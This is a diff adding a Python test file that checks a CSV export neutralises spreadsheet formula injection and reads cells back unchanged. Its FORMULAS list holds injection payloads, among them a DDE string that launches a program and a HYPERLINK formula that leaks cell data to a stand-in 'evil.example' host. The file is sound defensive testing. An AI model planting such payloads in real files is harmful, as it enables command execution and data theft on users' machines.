@@ -1,0 +1,68 @@
+"""A CSV that is opened in a spreadsheet works nothing out, and is read back as it was."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from clientsync_tui.sync import codes, export
+from clientsync_tui.sync.csv_cells import defused, plain
+from tests.support.clients import add, signed_in, workplace_in
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1)',
+    "+44 20 7946 0000",
+    "-5 Ltd",
+    "@SUM(1+1)",
+    "＝1+1",
+    "'=1+1",
+    "''@x",
+    "Foo;=1+1",
+    "Foo;'-1;+2",
+]
+
+_ODD = st.text("=+-@'\t\r\n;, ab＝\"", max_size=12)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.one_of(_ODD, st.text(max_size=20), st.sampled_from(FORMULAS)))
+def test_every_text_is_defused_and_comes_back(text: str):
+    cell = defused(text)
+    assert plain(cell) == text
+    for divided in (cell, *re.split(r"[;\t\r\n]", cell)):
+        assert not divided.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
+    assert not cell.startswith(("\t", "\r", "\n"))
+
+
+@pytest.mark.parametrize(
+    "text", ["Abbey Road Bakery Ltd", "O'Neil & Sons", "'Allo 'Allo", "A-B", "x=1", "", "a@b.c"]
+)
+def test_an_ordinary_text_is_left_as_it_is(text: str):
+    assert defused(text) == text == plain(text)
+
+
+def test_the_export_is_defused_and_our_own_import_reads_it_unchanged(tmp_path: Path):
+    workplace = workplace_in(tmp_path)
+    store = workplace.store
+    ann = signed_in(store, "=ann@example.com")
+    ids = {add(store, name, ann, code=f"-{n}", team=f"@{n}"): name for n, name in enumerate(FORMULAS)}
+    file = tmp_path / "clients.csv"
+    assert export.export(
+        file, store.clients.each([n + 1 for n in range(len(ids))], datetime.now(UTC))
+    ) == len(ids)
+    text = codes.read(file)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    read = codes.lines(text)
+    assert {line.id: line.client for line in read} == ids
+    assert [line.code for line in read] == [f"-{n}" for n in range(len(ids))]
+    planned = codes.plan(text, store)
+    assert (planned.changes, planned.unchanged) == ((), len(ids)), "nothing is to be changed"
+    workplace.close()
